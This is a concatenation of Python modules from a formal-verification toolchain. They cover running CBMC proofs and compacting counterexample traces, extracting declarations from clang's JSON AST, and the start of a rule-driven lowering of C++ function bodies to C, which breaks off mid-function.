def get_trace(proof, prop_name, timeout=600):
    """counterexample trace of ONE failed property (JSON steps, compacted); None if cbmc gives none in time"""
    gb = getattr(proof, 'gb', None)
    cmd = getattr(proof, 'cbmc_cmd', None)
    if not gb or not cmd or not os.path.exists(gb):
        return None
    cmd = [c for c in cmd if c != gb]
    cmd = [cmd[0], '--json-ui', '--trace', '--property', prop_name] + cmd[1:] + [gb]
    rc, out, err, dt = _run(cmd, timeout)
    if rc in ('timeout', 'toolarge'):
        return None
    try:
        msgs = json.loads(out)
    except Exception:
        return None
    for m in msgs:
        if isinstance(m, dict):
            for r in m.get('result', []):
                if r.get('property') == prop_name and r.get('trace'):
                    return compact_trace(r['trace'])
    return None


def compact_trace(trace, limit=400):
    """assignments of interest from a CBMC JSON trace (inputs, ghost state)"""
    out = []
    for st in trace:
        if st.get('stepType') == 'assignment' and not st.get('hidden'):
            lhs = st.get('lhs', '')
            if lhs.startswith('__CPROVER') or lhs.startswith('__dfcc') or 'return_value' in lhs and 'tmp' in lhs:
                continue
            v = st.get('value', {})
            out.append({'lhs': lhs, 'value': v.get('data', v.get('name')), 'binary': v.get('binary'), 'line': (st.get('sourceLocation') or {}).get('line'),
                        'fn': (st.get('sourceLocation') or {}).get('function')})
    return out[-limit:]


def run_all(proofs, workdir, jobs=None):
    """run proofs concurrently (cbmc is single-threaded; 16 cores)"""
    from concurrent.futures import ThreadPoolExecutor
    jobs = jobs or int(os.environ.get('VERIF_JOBS', str(min(16, os.cpu_count() or 4))))
    with ThreadPoolExecutor(max_workers=jobs) as ex:
        return list(ex.map(lambda p: p.run(workdir), proofs))
