"""clang-14 JSON AST extraction of named declarations from a real translation unit of /repo."""
import json, os, subprocess, hashlib
from . import configure


class ExtractError(Exception):
    pass


def _parse_docs(txt):
    dec = json.JSONDecoder()
    i = 0
    docs = []
    n = len(txt)
    while i < n:
        while i < n and txt[i].isspace():
            i += 1
        if i >= n:
            break
        if txt[i] != '{':
            nl = txt.find('\n', i)
            i = nl + 1 if nl >= 0 else n
            continue
        d, j = dec.raw_decode(txt, i)
        docs.append(d)
        i = j
    return docs


_cache = {}


def dump(src, filt, extra_flags=()):
    """all declarations of TU `src` whose qualified name contains `filt` (clang's -ast-dump-filter)"""
    key = (src, filt, tuple(extra_flags))
    if key in _cache:
        return _cache[key]
    flags = configure.flags_for(src) if not extra_flags or extra_flags[0] != '--flags-of' else configure.flags_for(extra_flags[1])
    if extra_flags and extra_flags[0] == '--flags-of':
        extra_flags = extra_flags[2:]
    # `--clang=<binary>` among the extra flags selects another installed clang for this one dump (C05: clang 16 types the
    # libstdc++-12 std::views pipeline of chooseMechanism that clang 14 cannot); default stays clang++ (14)
    clang = next((f[len('--clang='):] for f in extra_flags if f.startswith('--clang=')), 'clang++')
    extra_flags = [f for f in extra_flags if not f.startswith('--clang=')]
    cmd = [clang, '-fsyntax-only', '-Wno-everything', '-ferror-limit=0'] + flags + list(extra_flags) + \
          ['-Xclang', '-ast-dump=json', '-Xclang', '-ast-dump-filter=' + filt, src]
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    errs = [l for l in p.stderr.splitlines() if ' error: ' in l]
    docs = _parse_docs(p.stdout)
    if not docs:
        raise ExtractError('clang produced no declaration for filter %r in %s\n%s' % (filt, src, p.stderr[-1500:]))
    _cache[key] = (docs, errs)
    return _cache[key]


def has_body(d):
    return any(c.get('kind') == 'CompoundStmt' for c in d.get('inner', []))


def contains_error_nodes(n):
    k = n.get('kind')
    if k in ('RecoveryExpr', 'TypoExpr') or n.get('containsErrors'):
        return True
    return any(contains_error_nodes(c) for c in n.get('inner', []) if isinstance(c, dict))


def find_function(src, filt, name, nparams=None, sig=None, extra_flags=(), parent=None):
    """the definition (with body) of function `name` among the declarations matched by `filt`;
    disambiguated by parameter count or by a substring of the type signature"""
    docs, errs = dump(src, filt, extra_flags)
    cands = []

    def visit(d, par):
        if d.get('kind') in ('FunctionDecl', 'CXXMethodDecl', 'CXXConstructorDecl', 'CXXDestructorDecl') and d.get('name') == name and has_body(d):
            np_ = sum(1 for c in d.get('inner', []) if c.get('kind') == 'ParmVarDecl')
            if nparams is not None and np_ != nparams:
                return
            if sig is not None and sig not in d.get('type', {}).get('qualType', ''):
                return
            if parent is not None and par != parent:
                return
            cands.append(d)
            return
        if d.get('kind') in ('CXXRecordDecl', 'NamespaceDecl', 'ClassTemplateSpecializationDecl', 'FunctionTemplateDecl', 'ClassTemplateDecl', 'LinkageSpecDecl'):
            for c in d.get('inner', []):
                visit(c, d.get('name', par))
    for d in docs:
        visit(d, None)
    # the same definition can be dumped twice (once directly, once inside its class): dedupe by id
    seen = {}
    for c in cands:
        seen.setdefault(c['id'], c)
    cands = list(seen.values())
    if len(cands) != 1:
        raise ExtractError('expected exactly one definition of %s (filter %s) in %s, found %d' % (name, filt, src, len(cands)))
    d = cands[0]
    if contains_error_nodes(d):
        raise ExtractError('AST of %s contains clang error-recovery nodes (clang 14 could not type this function)' % name)
    return d


def find_decls(src, filt, kind, name=None, extra_flags=()):
    docs, _ = dump(src, filt, extra_flags)
    out = []

    def visit(d):
        if d.get('kind') == kind and (name is None or d.get('name') == name):
            out.append(d)
        for c in d.get('inner', []):
            if isinstance(c, dict) and c.get('kind') in ('CXXRecordDecl', 'NamespaceDecl', 'EnumDecl', 'VarDecl', 'FieldDecl', 'ClassTemplateSpecializationDecl', 'LinkageSpecDecl', 'EnumConstantDecl'):
                visit(c)
    for d in docs:
        visit(d)
    return out


def src_range(d):
    def line(loc):
        for k in ('expansionLoc', 'spellingLoc'):
            if k in loc:
                loc = loc[k]
                break
        return loc.get('line')
    r = d.get('range', {})
    b = line(r.get('begin', {})) or line(d.get('loc', {}))
    e = line(r.get('end', {}))
    return b, e


def node_hash(d):
    """hash of the AST subtree with ids/locations stripped (identifies the verified text)"""
    def strip(n):
        if isinstance(n, dict):
            return {k: strip(v) for k, v in n.items() if k not in ('id', 'loc', 'range', 'previousDecl', 'parentDeclContextId')}
        if isinstance(n, list):
            return [strip(x) for x in n]
        return n
    return hashlib.sha256(json.dumps(strip(d), sort_keys=True).encode()).hexdigest()[:16]
