"""cxx2c: rule-driven lowering of a clang JSON AST function body to C (DESIGN.md section 4).

Kept verbatim: control flow, conditions, scalar arithmetic with every implicit conversion explicit,
member reads/writes, order and arguments of mapped calls.  Rewritten: by the named rules of a
Profile (each use is recorded in `fired`).  Dropped: only calls whose rule says 'drop', and only when
their arguments are side-effect free (recorded in `dropped`).  Anything else raises Unsupported, which
the driver reports as exit 2 (tool limit), never as a violation."""
import re


class Unsupported(Exception):
    pass


def qt(n):
    return n.get('type', {}).get('qualType', '?')


def dqt(n):
    t = n.get('type', {})
    return t.get('desugaredQualType', t.get('qualType', '?'))


def strip_type(t):
    t = re.sub(r'\b(const|volatile|class|struct|enum)\b', '', t)
    t = t.replace('&&', '').replace('&', '')
    t = re.sub(r'\s+', ' ', t).strip()
    t = re.sub(r'\s*\*', '*', t)
    t = re.sub(r'\s*,\s*', ',', t)
    t = re.sub(r'\s*>', '>', t)
    t = re.sub(r'<\s*', '<', t)
    return t


SCALARS = {
    'bool': 'bool', '_Bool': 'bool', 'char': 'char', 'signed char': 'signed char', 'unsigned char': 'unsigned char',
    'short': 'short', 'unsigned short': 'unsigned short', 'int': 'int', 'unsigned int': 'unsigned int', 'unsigned': 'unsigned int',
    'long': 'long', 'unsigned long': 'unsigned long', 'long long': 'long long', 'unsigned long long': 'unsigned long long',
    'quint8': 'quint8', 'quint16': 'quint16', 'quint32': 'quint32', 'quint64': 'quint64', 'uint': 'unsigned int',
    'qint8': 'qint8', 'qint16': 'qint16', 'qint32': 'qint32', 'qint64': 'qint64', 'qsizetype': 'long', 'size_t': 'size_t',
    'std::size_t': 'size_t', 'uint8_t': 'quint8', 'uint16_t': 'quint16', 'uint32_t': 'quint32', 'uint64_t': 'quint64',
    'int8_t': 'qint8', 'int16_t': 'qint16', 'int32_t': 'qint32', 'int64_t': 'qint64', 'char16_t': 'quint16', 'double': 'double',
    'float': 'float', 'void': 'void', 'qulonglong': 'unsigned long long', 'qlonglong': 'long long', 'ushort': 'unsigned short',
    'uchar': 'unsigned char', 'ulong': 'unsigned long', 'std::uint8_t': 'quint8', 'std::uint16_t': 'quint16',
    'std::uint32_t': 'quint32', 'std::uint64_t': 'quint64', 'std::int8_t': 'qint8', 'std::int16_t': 'qint16',
    'std::int32_t': 'qint32', 'std::int64_t': 'qint64', '__int128': '__int128',
}


class Profile:
    """what a unit tells the lowering: type map, class-typed models, call rules, ghost hooks"""

    def __init__(self, types=None, class_types=None, calls=None, enums_as_int=True, hooks=None, field_rules=None,
                 globals_ok=None, default_args=None, literal_ids=None, this_fields=None, pure_fns=None, string_types=None):
        self.types = dict(types or {})            # stripped C++ type -> C type
        self.class_types = set(class_types or ())  # C type names passed by address
        self.calls = dict(calls or {})
        self.hooks = list(hooks or [])            # [{'after': regex on emitted C statement, 'emit': text, 'id': ...}]
        self.field_rules = dict(field_rules or {})  # 'Class::field' -> C expression template with {b}
        self.globals_ok = set(globals_ok or ())   # non-local variables the unit defines itself
        self.default_args = dict(default_args or {})  # stripped type -> C expression for CXXDefaultArgExpr
        self.literal_ids = literal_ids            # StringTable or None
        self.string_types = set(string_types or ())  # C scalar types that model strings as opaque ids (DESIGN 5.3)
        self.type_patterns = []                   # [(compiled regex on the stripped C++ type, C type)] tried after the exact map
        # free / static functions known to be side-effect free (needed only to justify dropping a logging call)
        self.pure_fns = set(pure_fns or ()) | {'number', 'fromUtf8', 'fromLatin1', 'operator""_s', 'toString', 'arg', 'qMax', 'qMin', 'size', 'isEmpty', 'toHex', 'toUtf8', 'toLatin1', 'count', 'length', 'isNull', 'data', 'constData', 'tagName', 'attribute', 'namespaceURI', 'errorString', 'toBase64', 'join', 'left', 'mid', 'id', 'type', 'from', 'to'}


class StringTable:
    """opaque-string model: every distinct literal gets its own small positive id"""

    def __init__(self):
        self.ids = {}

    def get(self, s):
        if s == '':
            return 0
        if s not in self.ids:
            self.ids[s] = len(self.ids) + 1
        return self.ids[s]

    def cexpr(self, s):
        return '%d /*%s*/' % (self.get(s), re.sub(r'[^ -~]', '?', s).replace('*/', '* /').replace('/*', '/ *'))

    def table(self):
        return '/* string table (opaque ids; 0 = empty string):\n' + ''.join('   %d = "%s"\n' % (i, re.sub(r'[^ -~]', '?', k).replace('*/', '* /')) for k, i in self.ids.items()) + '*/\n#define STR_FIRST_FREE %d\n' % (len(self.ids) + 1)


class Lowerer:
    def __init__(self, decl, cname, profile, this_type=None, is_lambda=False):
        self.decl = decl
        self.cname = cname
        self.p = profile
        self.this_type = this_type
        self.tmp = 0
        self.out = []
        self.fired = {}
        self.dropped = []
        self.loops = 0
        self.locals = {}      # decl id -> (cname, ctype, is_ref)
        self.names = set()
        self.need_globals = {}  # name -> referencedDecl
        self.need_enums = {}    # enum qualType -> set(names)
        self.hook_fired = {}
        self.pre = []
        self.repo_callees = set()
        self.ret_ctype = None
        self.ret_class = False
        self.is_lambda = is_lambda
        self.this_const = None     # lifted lambda: constness of the captured `this` is that of the enclosing method
        self.local_lambdas = {}    # VarDecl id of `auto f = [..](..){..};` -> (C name of the lifted function, capture arguments, captures this, lowerer)
        self.lifted = []           # C text of the lifted functions (must precede the function's own text)

    # ------------------------------------------------------------------ types
    def ctype(self, t, node=None):
        for cand in ([t] if node is None else [qt(node), dqt(node)]) if t is None else [t]:
            s = strip_type(cand)
            ptr = ''
            while s.endswith('*'):
                s = s[:-1].strip()
                ptr += '*'
            if s in self.p.types:
                return self.p.types[s] + ptr
            if s in SCALARS:
                return SCALARS[s] + ptr
            for rx, ct in getattr(self.p, 'type_patterns', ()):
                if rx.fullmatch(s):
                    return ct + ptr
        # an enumeration DEFINED IN THE REPOSITORY that the unit has no entry for (typically introduced by a refactoring): int,
        # like every other enum (enums_as_int); its constants are emitted with their values as for the known ones
        for cand in ([t] if node is None else [qt(node), dqt(node)]) if t is None else [t]:
            s = strip_type(cand)
            ptr = ''
            while s.endswith('*'):
                s = s[:-1].strip()
                ptr += '*'
            if self._repo_enum(s):
                self.p.types[s] = 'int'
                return 'int' + ptr
        raise Unsupported('type %s' % (t if t is not None else qt(node) + ' / ' + dqt(node)))

    _ENUM_CACHE = {}

    def _repo_enum(self, name):
        srcs = getattr(self, 'source_files', None)
        if not srcs or not re.fullmatch(r'[A-Za-z_]\w*(::[A-Za-z_]\w*)*', name or ''):
            return False
        key = (srcs[0], name)
        if key in Lowerer._ENUM_CACHE:
            return Lowerer._ENUM_CACHE[key]
        from . import astx
        from .configure import REPO
        import os
        parts = name.split('::')
        last = parts[-1]
        ok = False
        found = {'enum': 0, 'record': 0}

        def in_repo(d):
            loc = d.get('loc', {})
            for k in ('expansionLoc', 'spellingLoc'):
                if k in loc:
                    loc = loc[k]
                    break
            f = loc.get('file') or d.get('range', {}).get('begin', {}).get('file')
            return f is None or os.path.realpath(f).startswith(os.path.realpath(REPO) + os.sep)

        def visit(d, path):
            k = d.get('kind')
            nm = d.get('name')
            here = path + [nm] if nm else path
            if nm == last and here[-len(parts):] == parts:
                if k == 'EnumDecl' and in_repo(d):
                    found['enum'] += 1
                elif k in ('CXXRecordDecl', 'ClassTemplateDecl', 'TypedefDecl', 'TypeAliasDecl') and d.get('completeDefinition', True):
                    found['record'] += 1
            if k in ('CXXRecordDecl', 'NamespaceDecl', 'ClassTemplateSpecializationDecl', 'LinkageSpecDecl', 'TranslationUnitDecl'):
                for c in d.get('inner', []):
                    if isinstance(c, dict):
                        visit(c, here)
        try:
            docs, _ = astx.dump(srcs[0], last, tuple(getattr(self, 'extra_flags', ()) or ()))
            for d in docs:
                # a filtered dump prints each matching declaration on its own, without its enclosing scopes: the qualified
                # name is only checkable for nested matches, so an unqualified top-level hit counts only for a one-component name
                visit(d, [])
                if d.get('name') == last and len(parts) > 1 and d.get('kind') == 'EnumDecl' and in_repo(d):
                    found['enum_top'] = found.get('enum_top', 0) + 1
            # accept only an unambiguous answer: the name denotes enum(s) and no class / alias of the same (qualified) name
            ok = (found['enum'] > 0 or (found.get('enum_top', 0) > 0 and found['record'] == 0 and self._only_enums_named(docs, last))) and found['record'] == 0
        except Exception:
            ok = False
        Lowerer._ENUM_CACHE[key] = ok
        return ok

    @staticmethod
    def _only_enums_named(docs, last):
        """every declaration called `last` anywhere in the filtered dump is an enum (then an unqualified match cannot be a class)"""
        kinds = set()

        def walk(d):
            if d.get('name') == last and d.get('kind', '').endswith('Decl') and d.get('kind') not in ('EnumConstantDecl', 'ParmVarDecl', 'VarDecl', 'FieldDecl', 'CXXConstructorDecl', 'CXXDestructorDecl', 'CXXMethodDecl', 'FunctionDecl'):
                kinds.add(d['kind'])
            for c in d.get('inner', []):
                if isinstance(c, dict):
                    walk(c)
        for d in docs:
            walk(d)
        return kinds <= {'EnumDecl'}

    def ntype(self, n):
        """C type of expression/decl node n (tries sugar first, then the desugared type)"""
        errs = []
        for cand in (qt(n), dqt(n)):
            try:
                return self.ctype(cand)
            except Unsupported as e:
                errs.append(str(e))
        raise Unsupported(errs[0] + (' / ' + dqt(n) if dqt(n) != qt(n) else ''))

    def is_class(self, n):
        try:
            return self.ntype(n).rstrip('*').strip() in self.p.class_types and not self.ntype(n).endswith('*')
        except Unsupported:
            return False

    def tkey(self, n):
        """canonical type key used in rule names"""
        for cand in (qt(n), dqt(n)):
            s = strip_type(cand)
            base = s.rstrip('*')
            if base in self.p.types or base in SCALARS:
                return (self.p.types.get(base) or SCALARS.get(base)) + s[len(base):]
            for rx, ct in getattr(self.p, 'type_patterns', ()):
                if rx.fullmatch(base):
                    return ct + s[len(base):]
        return strip_type(qt(n))

    def newtmp(self):
        self.tmp += 1
        return '_t%d' % self.tmp

    def fire(self, key):
        self.fired[key] = self.fired.get(key, 0) + 1

    # ------------------------------------------------------------------ expressions
    TRANSPARENT = ('ExprWithCleanups', 'MaterializeTemporaryExpr', 'CXXBindTemporaryExpr', 'ConstantExpr', 'SubstNonTypeTemplateParmExpr')
    NOOP_CASTS = ('NoOp', 'LValueToRValue', 'FunctionToPointerDecay', 'ArrayToPointerDecay', 'ConstructorConversion',
                  'UserDefinedConversion', 'DerivedToBase', 'UncheckedDerivedToBase')

    def skip(self, n):
        while True:
            k = n.get('kind')
            if k in self.TRANSPARENT:
                n = n['inner'][0]
            elif k == 'ImplicitCastExpr' and n.get('castKind') in self.NOOP_CASTS:
                n = n['inner'][0]
            elif k in ('CXXFunctionalCastExpr', 'CXXStaticCastExpr', 'CStyleCastExpr') and n.get('castKind') in ('NoOp', 'ConstructorConversion'):
                n = n['inner'][0]
            else:
                return n

    def pure(self, n):
        k = n.get('kind')
        if k == 'CompoundAssignOperator':
            return False
        if k == 'BinaryOperator' and n.get('opcode') in ('=',):
            return False
        if k == 'UnaryOperator' and n.get('opcode') in ('++', '--'):
            return False
        if k in ('CXXMemberCallExpr',):
            me = self.skip(n['inner'][0])
            if me.get('name') not in self.p.pure_fns and not re.match(r'operator [A-Za-z_]', me.get('name', '')):
                return False
        if k == 'CXXOperatorCallExpr':
            rd = self.callee_ref(n)
            if rd.get('name') in ('operator=', 'operator+=', 'operator<<', 'operator>>', 'operator++', 'operator--', 'operator-=', 'operator|=', 'operator&=', 'operator^='):
                return False
        if k == 'LambdaExpr':
            return True
        if k == 'CallExpr':
            if self.callee_ref(n).get('name') not in self.p.pure_fns:
                return False
        return all(self.pure(c) for c in n.get('inner', []) if isinstance(c, dict))

    def callee_ref(self, n):
        ce = n['inner'][0]
        while 'referencedDecl' not in ce and ce.get('inner'):
            ce = ce['inner'][0]
        return ce.get('referencedDecl', {})

    def addr(self, n):
        e = self.expr(n)
        return self.addr_of(e)

    @staticmethod
    def addr_of(e):
        if e.startswith('(*') and e.endswith(')') and balanced(e[2:-1]):
            return e[2:-1]
        return '&' + e

    def int_literal(self, n):
        t = dqt(n)
        v = n['value']
        suf = ''
        if 'unsigned' in t:
            suf += 'u'
        if 'long long' in t:
            suf += 'll'
        elif 'long' in t:
            suf += 'l'
        return v + suf

    def expr(self, n):
        n = self.skip(n)
        k = n.get('kind')
        if k == 'ParenExpr':
            return '(' + self.expr(n['inner'][0]) + ')'
        if k == 'IntegerLiteral':
            return self.int_literal(n)
        if k == 'CXXBoolLiteralExpr':
            return 'true' if n['value'] else 'false'
        if k == 'CharacterLiteral':
            return '((%s)%d)' % (self.ntype(n), n['value'])
        if k == 'FloatingLiteral':
            return str(n['value'])
        if k == 'CXXNullPtrLiteralExpr' or k == 'GNUNullExpr':
            return 'NULL'
        if k == 'CXXThisExpr':
            return 'self'
        if k == 'DeclRefExpr':
            return self.declref(n)
        if k == 'MemberExpr':
            return self.member(n)
        if k in ('ImplicitCastExpr', 'CStyleCastExpr', 'CXXStaticCastExpr', 'CXXFunctionalCastExpr', 'CXXReinterpretCastExpr', 'CXXConstCastExpr'):
            return self.cast(n)
        if k == 'UnaryOperator':
            op = n['opcode']
            sub = n['inner'][0]
            if op == '&':
                return self.addr(sub)
            if op == '*':
                return '(*%s)' % self.expr(sub)
            e = self.expr(sub)
            if n.get('isPostfix'):
                return '(%s%s)' % (e, op)
            return '(%s%s)' % (op, e)
        if k == 'BinaryOperator':
            return self.binop(n)
        if k == 'CompoundAssignOperator':
            a = self.expr(n['inner'][0])
            b = self.expr(n['inner'][1])
            # C performs the same usual arithmetic conversions as C++ for scalar compound assignment
            return '(%s %s %s)' % (a, n['opcode'], b)
        if k == 'ConditionalOperator':
            return self.condop(n)
        if k == 'UnaryExprOrTypeTraitExpr':
            if n.get('name') == 'sizeof':
                if n.get('inner'):
                    sub = self.skip(n['inner'][0])
                    return 'sizeof(%s)' % self.ntype(sub)
                return 'sizeof(%s)' % self.ctype(n['argType']['qualType'])
            raise Unsupported('type trait %s' % n.get('name'))
        if k == 'ArraySubscriptExpr':
            return '%s[%s]' % (self.expr(n['inner'][0]), self.expr(n['inner'][1]))
        if k == 'CXXMemberCallExpr':
            return self.membercall(n)
        if k == 'CXXOperatorCallExpr':
            return self.opcall(n)
        if k == 'CallExpr':
            return self.fncall(n)
        if k in ('CXXConstructExpr', 'CXXTemporaryObjectExpr'):
            return self.construct(n, None)
        if k == 'CXXDefaultArgExpr':
            return self.default_arg(n)
        if k == 'CXXScalarValueInitExpr':
            return '((%s)0)' % self.ntype(n)
        if k == 'ImplicitValueInitExpr':
            return '((%s)0)' % self.ntype(n)
        if k == 'UserDefinedLiteral' or k == 'StringLiteral':
            return self.string_literal(n)
        if k == 'CXXDefaultInitExpr':
            return self.expr(n['inner'][0]) if n.get('inner') else '0'
        if k == 'InitListExpr':
            return self.initlist(n)
        if k == 'CXXStdInitializerListExpr':
            return self.expr(n['inner'][0])
        if k == 'LambdaExpr':
            return self.lambda_expr(n)
        if k == 'ExprWithCleanups':
            return self.expr(n['inner'][0])
        if k == 'CXXNewExpr' or k == 'CXXDeleteExpr':
            return self.custom('expr:' + k, n)
        if k == 'PredefinedExpr':
            return '0'
        raise Unsupported('expr kind %s' % k)

    # hooks for subclasses / unit extensions ------------------------------------------------
    def custom(self, key, n):
        rule = self.p.calls.get(key)
        if rule is None:
            raise Unsupported(key)
        self.fire(key)
        if callable(rule):
            return rule(self, n)
        raise Unsupported('rule for %s must be callable' % key)

    def udl_from_source(self, n):
        """QXmpp's u"..."_s is a literal operator template: clang's JSON carries the characters only in the (undumped)
        template argument, so the token is read back from the source file at the node's own offset and must parse as
        a u"..."_s token there (otherwise: Unsupported)."""
        b = n.get('range', {}).get('begin', {})
        for k in ('spellingLoc', 'expansionLoc'):
            if k in b:
                b = b[k]
                break
        off, ln = b.get('offset'), b.get('tokLen')
        if off is None or ln is None:
            return None
        for path in getattr(self, 'source_files', []):
            try:
                data = open(path, 'rb').read()
            except OSError:
                continue
            tok = data[off:off + ln].decode('utf-8', 'replace')
            m = re.fullmatch(r'u"((?:[^"\\]|\\.)*)"_s', tok)
            if m:
                return m.group(1).encode().decode('unicode_escape') if '\\' in m.group(1) else m.group(1)
        return None

    def string_literal(self, n):
        s = find_string(n)
        if s is None and self.skip(n).get('kind') == 'UserDefinedLiteral':
            s = self.udl_from_source(self.skip(n))
        if s is None:
            raise Unsupported('string literal without value')
        if self.p.literal_ids is None:
            raise Unsupported('string literal %r outside a dropped call (unit has no string table)' % s)
        self.fire('literal:string')
        t = None
        try:
            t = self.ntype(n)
        except Unsupported:
            pass
        if t and t in self.p.class_types:
            tmp = self.newtmp()
            self.pre.append('%s %s = {%d};' % (t, tmp, self.p.literal_ids.get(s)))
            return tmp
        return self.p.literal_ids.cexpr(s)

    def lambda_expr(self, n):
        return self.custom('expr:LambdaExpr', n)

    def initlist(self, n):
        return self.custom('expr:InitListExpr:' + self.tkey(n), n)

    def default_arg(self, n):
        s = self.tkey(n)
        if s in self.p.default_args:
            self.fire('default:' + s)
            return self.p.default_args[s]
        # clang does not expand the default argument in the JSON dump
        raise Unsupported('default argument of type %s' % s)

    def declref(self, n):
        rd = n['referencedDecl']
        name = rd.get('name', '')
        kind = rd['kind']
        if kind == 'EnumConstantDecl':
            et = strip_type(rd['type']['qualType'])
            self.need_enums.setdefault(et, set()).add(name)
            return enum_cname(et, name)
        if kind in ('ParmVarDecl', 'VarDecl', 'BindingDecl'):
            loc = self.locals.get(rd['id'])
            if loc:
                cname, ct, is_ref = loc
                return '(*%s)' % cname if is_ref else cname
            if name in self.p.globals_ok:
                self.fire('global:' + name)
                return name
            if kind == 'VarDecl':
                self.need_globals[name] = rd
                return name
            raise Unsupported('reference to unknown %s %s' % (kind, name))
        if kind in ('FunctionDecl', 'CXXMethodDecl'):
            return name
        raise Unsupported('DeclRefExpr to %s %s' % (kind, name))

    def member(self, n):
        base = self.skip(n['inner'][0])
        name = n['name']
        # rule on Class::field (e.g. d-pointer indirections)
        bt = self.tkey(base).rstrip('*')
        fr = self.p.field_rules.get('%s::%s' % (bt, name))
        b = self.expr(base)
        if fr:
            self.fire('field:%s::%s' % (bt, name))
            return fr.format(b=b)
        if n.get('isArrow'):
            return '%s->%s' % (b, name)
        if b.startswith('(*') and b.endswith(')') and balanced(b[2:-1]):
            return '%s->%s' % (b[2:-1], name)
        return '%s.%s' % (b, name)

    def cast(self, n):
        ck = n.get('castKind')
        sub = n['inner'][0]
        if ck == 'NullToPointer':
            return 'NULL'
        if ck in ('IntegralCast', 'IntegralToFloating', 'FloatingToIntegral', 'FloatingCast', 'BooleanToSignedIntegral'):
            return '((%s)%s)' % (self.ntype(n), self.expr(sub))
        if ck == 'IntegralToBoolean':
            return '(%s != 0)' % self.expr(sub)
        if ck == 'PointerToBoolean':
            return '(%s != NULL)' % self.expr(sub)
        if ck == 'BitCast':
            return self.custom('cast:BitCast:%s' % self.tkey(n), n)
        if ck == 'ToVoid':
            return '((void)%s)' % self.expr(sub)
        if ck in self.NOOP_CASTS:
            return self.expr(sub)
        raise Unsupported('cast %s to %s' % (ck, qt(n)))

    def binop(self, n):
        op = n['opcode']
        l, r = n['inner']
        if op in ('&&', '||'):
            a = self.expr(l)
            saved = self.pre
            self.pre = []
            b = self.expr(r)
            rpre = self.pre
            self.pre = saved
            if not rpre:
                return '(%s %s %s)' % (a, op, b)
            # right operand needs temporaries: keep short-circuit evaluation
            t = self.newtmp()
            self.pre.append('bool %s = %s;' % (t, a))
            self.pre.append('if (%s%s) {' % ('' if op == '&&' else '!', t))
            self.pre.extend('  ' + x for x in rpre)
            self.pre.append('  %s = %s;' % (t, b))
            self.pre.append('}')
            return t
        if op == ',':
            a = self.expr(l)
            self.pre.append(a + ';')
            return self.expr(r)
        if op == '=':
            ls = self.skip(l)
            if self.is_class(ls):
                raise Unsupported('builtin assignment of class type %s' % qt(ls))
            return '(%s = %s)' % (self.expr(l), self.expr(r))
        if op == '<=>':
            raise Unsupported('operator <=>')
        return '(%s %s %s)' % (self.expr(l), op, self.expr(r))

    def condop(self, n):
        c, a, b = n['inner']
        ce = self.expr(c)
        saved = self.pre
        self.pre = []
        ae = self.expr(a)
        apre = self.pre
        self.pre = []
        be = self.expr(b)
        bpre = self.pre
        self.pre = saved
        if not apre and not bpre:
            return '(%s ? %s : %s)' % (ce, ae, be)
        t = self.newtmp()
        ct = self.ntype(self.skip(n))
        self.pre.append('%s %s;' % (ct, t))
        self.pre.append('if (%s) {' % ce)
        self.pre.extend('  ' + x for x in apre)
        self.pre.append('  %s = %s;' % (t, ae))
        self.pre.append('} else {')
        self.pre.extend('  ' + x for x in bpre)
        self.pre.append('  %s = %s;' % (t, be))
        self.pre.append('}')
        return t

    # ------------------------------------------------------------------ calls
    def arg(self, a, byref=False):
        a0 = self.skip(a)
        if a0.get('kind') == 'CXXDefaultArgExpr':
            return self.default_arg(a0)
        if self.is_class(a0):
            return self.addr(a0)
        if byref:
            return self.addr(a0)
        return self.expr(a0)

    def param_refs(self, sig):
        """which parameters of a function type string are non-const lvalue references to scalars"""
        m = re.search(r'\((.*)\)', sig)
        if not m:
            return []
        ps = split_top(m.group(1))
        return [p.strip().endswith('&') and not p.strip().endswith('&&') and not re.match(r'\s*const\b', p) for p in ps]

    def emitcall(self, rule, key, args, node, argnodes):
        self.fire(key)
        if callable(rule):
            return rule(self, node, args)
        kind = rule[0]
        if kind == 'drop':
            for a in argnodes:
                if not self.pure(a):
                    raise Unsupported('dropped call %s has an argument with side effects' % key)
            self.dropped.append({'call': key, 'line': line_of(node)})
            return '((void)0)'
        if kind == 'self':
            return args[0]
        if kind == 'deref':
            return '(*%s)' % args[0]
        if kind == 'arg':
            a = args[rule[1]]
            an = self.skip(argnodes[rule[1]]) if rule[1] < len(argnodes) else None
            if an is not None and self.is_class(an):
                return strip_amp(a)      # class-typed: args carry addresses, the expression value is the object
            return a
        if kind == 'fn' or kind == 'callee' or kind == 'fnmut':
            if kind == 'callee':
                self.repo_callees.add(rule[1])
            return '%s(%s)' % (rule[1], ', '.join(args))
        if kind == 'fnret' or kind == 'calleeret':
            if kind == 'calleeret':
                self.repo_callees.add(rule[1])
            t = self.newtmp()
            ct = rule[2] if len(rule) > 2 else self.ntype(self.skip(node))
            if kind == 'calleeret' and node.get('kind') == 'CXXMemberCallExpr' and args:
                # a lowered METHOD returning a class by value has the signature f(self, _ret, args...) (see lower())
                self.pre.append('%s %s; %s(%s, &%s%s);' % (ct, t, rule[1], args[0], t, ''.join(', ' + a for a in args[1:])))
            else:
                self.pre.append('%s %s; %s(&%s%s);' % (ct, t, rule[1], t, ''.join(', ' + a for a in args)))
            return t
        if kind == 'expr':
            return '(' + rule[1].format(*args, **{'v%d' % i: strip_amp(a) for i, a in enumerate(args)}) + ')'
        if kind == 'field':
            return '%s->%s' % (args[0], rule[1])
        if kind == 'const':
            return rule[1]
        raise Unsupported('rule kind %s for %s' % (kind, key))

    def class_key(self, base, is_arrow):
        s = self.tkey(base)
        if is_arrow and s.endswith('*'):
            s = s[:-1]
        return s

    def membercall(self, n):
        me = self.skip(n['inner'][0])
        if me.get('kind') != 'MemberExpr':
            raise Unsupported('member call through %s' % me.get('kind'))
        base = self.skip(me['inner'][0])
        argn = n['inner'][1:]
        nargs = len([a for a in argn if a.get('kind') != 'CXXDefaultArgExpr'])
        cls = self.class_key(base, me.get('isArrow'))
        key = '%s::%s/%d' % (cls, me['name'], nargs)
        if key not in self.p.calls and ('*::%s/%d' % (me['name'], nargs)) in self.p.calls:
            key = '*::%s/%d' % (me['name'], nargs)
        rule = self.p.calls.get(key)
        if rule is None:
            raise Unsupported('call %s::%s/%d' % (cls, me['name'], nargs))
        if not callable(rule) and rule[0] == 'drop':
            return self.emitcall(rule, key, [], n, [me['inner'][0]] + argn)
        if not callable(rule) and rule[0] == 'const':
            for a in [me['inner'][0]] + argn:
                if not self.pure(a):
